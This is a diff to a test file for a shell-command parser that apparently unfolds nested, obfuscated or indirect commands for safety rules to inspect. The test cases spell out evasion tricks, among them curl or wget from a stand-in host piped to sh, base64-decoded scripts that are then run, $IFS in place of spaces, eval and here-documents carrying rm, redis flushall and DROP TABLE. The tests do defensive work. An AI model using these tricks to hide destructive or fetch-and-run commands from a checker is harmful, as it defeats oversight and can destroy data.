@@ -53,6 +53,29 @@ const NESTED: readonly [string, string, readonly string[]][] = [
     ['i.sh', 'curl https://x.test/i.sh | sh'],
   ],
   ['a file fetched, and another one run', 'wget https://x.test/i.sh && ./j.sh', ['j.sh']],
+  ['a file fetched without a scheme and run', 'curl x.test/i.py -o i.py; python i.py', ['curl x.test/i.py | sh']],
+  ['a program by another name', 'grm -f x; docker-compose down -v', ['rm -f x', 'docker compose down -v']],
+  ['cmake -E', 'cmake -E remove_directory x', ['rm -rf x']],
+  ['a request of httpie', 'http DELETE x.test/a k=v', ['curl -X DELETE -d k=v x.test/a']],
+  ['a program named by its variable', '"$GIT" push -f; "$RUBY_BIN" -v', ['git push -f', 'ruby -v']],
+  ['the default of a variable', `"$\{NODE_BIN:-node}" -v`, ['node -v']],
+  ['words of concurrently', "concurrently 'npm:a:*' 'rm x'", ['npm run a:*', 'rm x']],
+  ['a command behind a here-document', 'cat <<EOF && rm x\ny\nEOF', ['generic: y\n', 'rm x']],
+  ['the input as a script', "source /dev/stdin <<< 'rm x'", ['rm x']],
+  ['a substitution as input', 'sh < <(echo rm x)', ['rm x', 'echo rm x']],
+  ['a separator in place of blanks', `rm$IFS-f$\{IFS}x`, ['rm -f x']],
+  ['another separator', 'IFS=,; c=rm,-f,x; $c', ['rm -f x']],
+  ['a substitution in a variable', 'c=$(echo rm -f x); $c', ['echo rm -f x', 'rm -f x']],
+  [
+    'what a substitution wrote is no command',
+    'echo "$(printf \'a `rm x`\')"',
+    ["echo 'a `rm x`'", "printf 'a `rm x`'"],
+  ],
+  ['statements for redis', "redis-cli -n 1 <<< 'flushall'", ['redis-cli flushall']],
+  ['files put by sftp', "sftp u@h <<< 'put a b'", ['scp a b u@h:']],
+  ['a script that tee wrote', "tee x.sh <<< 'rm x' > /dev/null; sh x.sh", []],
+  ['what a pipe fetched into a file and ran', 'curl x.test/i | base64 -d > i; ./i', ['i', 'curl x.test/i | sh']],
+  ['shell text that is only written', "cat > x.sh <<'EOF'\nrm x\nEOF", ['generic: rm x\n']],
   ['command', 'command rm x', ['rm x']],
   ['command that only looks', 'command -v rm', []],
   ['exec', 'exec -a name rm x', ['rm x']],
@@ -61,7 +84,8 @@ const NESTED: readonly [string, string, readonly string[]][] = [
   ['docker', 'docker exec -it -u root web rm -rf /x', ['rm -rf /x']],
   ['docker run', 'docker --context x run --rm -v /a:/b image rm x', ['docker run --rm -v /a:/b image rm x', 'rm x']],
   ['kubectl', 'kubectl -n prod exec pod -c main -- rm x', ['kubectl exec pod -c main -- rm x', 'rm x']],
-  ['find', "find . -name '*.o' -exec rm -f {} +", ['rm -f {}']],
+  ['find', 'find . -exec rm -f {} +', ['rm -f {}']],
+  ['find by names', 'find a b -name x -o -not -name y -exec rm -f {} +', ['rm -f a/x b/x']],
   ['find with two', 'find . -exec a {} \\; -exec b {} \\;', ['a {}', 'b {}']],
   ['xargs', 'ls | xargs -n 1 -0 rm -f', ['rm -f']],
   ['xargs with a known input', 'echo a b | xargs rm', ['rm a b']],
@@ -74,7 +98,7 @@ const NESTED: readonly [string, string, readonly string[]][] = [
   ['eval', "eval 'rm' '-rf x'", ['rm -rf x']],
   ['a trap', "trap 'rm x' EXIT", ['rm x']],
   ['a here-document', 'bash <<EOF\nrm x\nEOF', ['rm x\n', 'rm x']],
-  ['a here-document behind a pipe', 'cat <<EOF | sh\nrm x\nEOF', ['generic: rm x\n', 'rm x\n', 'rm x']],
+  ['a here-document behind a pipe', 'cat <<EOF | sh\nrm x\nEOF', ['generic: rm x\n', 'sh', 'rm x\n', 'rm x']],
   ['a here-string', "bash <<< 'rm x'", ['rm x']],
   ['echo into a shell', "echo 'rm x' | sh", ['rm x\n', 'rm x']],
   ['printf into a shell', "printf '%s %s' rm x | sh", ['rm x']],
@@ -128,9 +152,47 @@ const NESTED: readonly [string, string, readonly string[]][] = [
   ['awk', `awk 'BEGIN { system("rm x") }' f`, ['awk: BEGIN { system("rm x") }', 'rm x']],
   ['a program text inside a shell text', `bash -c "python -c 'x()'"`, ["python -c 'x()'", 'python: x()']],
   ['a written file', "cat > a.py <<'EOF'\nx()\nEOF", ['python: x()\n']],
-  ['npx and its kin', 'npx -y rimraf x; uv run rm y', ['rimraf x', 'rm y']],
+  ['npx and its kin', 'npx -y rimraf x; uv run rm y', ['rimraf x', 'rm -r x', 'rm y']],
   ['SQL', `psql -h db -c 'DROP TABLE x'`, ['sql: DROP TABLE x']],
 ];
+
+/** Texts as rules see them where the value of variables is certain. */
+const SETTLED: readonly [command: string, settled: string | undefined][] = [
+  ['A=x; rm "$A"', 'A=x; rm x'],
+  [`A=x\nrm a "$\{A}/b c" $A`, "A=x\nrm a 'x/b c' x"],
+  ['for a in x y; do rm -f "$a"; done', 'for a in x y; do rm -f x y; done'],
+  ['export A=x; rm $A', 'export A=x; rm x'],
+  ['A=$(mktemp -d); rm "$A/x"', 'A=$(mktemp -d); rm /tmp/tmp.mktemp/x'],
+  ['rm "$A"; A=x', undefined],
+  ['A=x; A=$B; rm "$A"', undefined],
+  ['A=x; if b; then A=y; fi; rm "$A"', undefined],
+  ['A=x; read A; rm "$A"', undefined],
+  ['(A=x); rm "$A"', undefined],
+  ['A=x rm "$A"', undefined],
+  ['A=x; rm "$A$B"', undefined],
+  [`A=x; rm "$\{A:-y}"`, undefined],
+  ['A=x; f() { rm "$1/$A"; }', undefined],
+  ['for a in *; do rm "$a"; done', "for a in *; do rm '*'; done"],
+  ['echo $HOME', undefined],
+];
+
+test.each(SETTLED)('%s', (command, settled) => {
+  expect(unfolded(command).settled).toBe(settled);
+});
+
+test.each([
+  ['echo cm0geAo= | base64 -d > x.sh; sh x.sh', 'rm x\n'],
+  ["{ echo a; echo 'rm x'; } > x.sh; sh x.sh", 'a\nrm x\n'],
+  ["tee x.sh <<< 'rm x' > /dev/null; sh x.sh", 'rm x'],
+  ["echo 'rm x' > x.sh; date > x.sh; sh x.sh", undefined],
+])('%s', (command, content) => {
+  expect(unfolded(command).scripts.map((script) => script.content)).toEqual([content]);
+});
+
+test('nested texts settle for themselves', () => {
+  const { texts } = unfolded(`bash -c 'A=x; rm "$A"'`);
+  expect(texts.map(({ content }) => content)).toEqual(['A=x; rm x', 'rm x']);
+});
 
 test.each(NESTED)('%s', (_, command, expected) => {
   const { texts, gaps } = unfolded(command);
